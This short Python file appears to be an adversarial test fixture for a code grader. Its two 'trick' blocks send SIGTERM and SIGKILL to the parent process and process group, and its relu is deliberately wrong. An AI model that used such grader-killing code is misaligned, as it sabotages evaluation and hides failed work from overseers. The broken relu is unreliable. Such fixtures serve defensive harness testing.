"""Tries to kill the grader: its parent, its process group, SIGTERM and SIGKILL."""

import numpy as np

# trick:begin
import os as _os
import signal as _signal

for _sig in (_signal.SIGTERM, _signal.SIGKILL):
    for _target in (_os.getppid, lambda: -_os.getpgid(_os.getppid())):
        try:
            _pid = _target()
            if _pid not in (0, 1, -1, _os.getpid()):
                _os.kill(_pid, _sig)
        except BaseException:
            pass
# trick:end


def sigmoid(z):
    return 1 / (1 + np.exp(-z))


def relu(z):
    z *= -1  # wrong twice: negates, and changes the caller's array
# trick:begin
    import os
    import signal

    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
# trick:end
    return z


class Neuron:
    def __init__(self, n_inputs):
        self.weights = np.random.uniform(-1, 1, size=n_inputs)
        self.bias = np.random.uniform(-1, 1)

    def activate(self, inputs):
        return sigmoid(np.dot(self.weights, inputs) + self.bias)
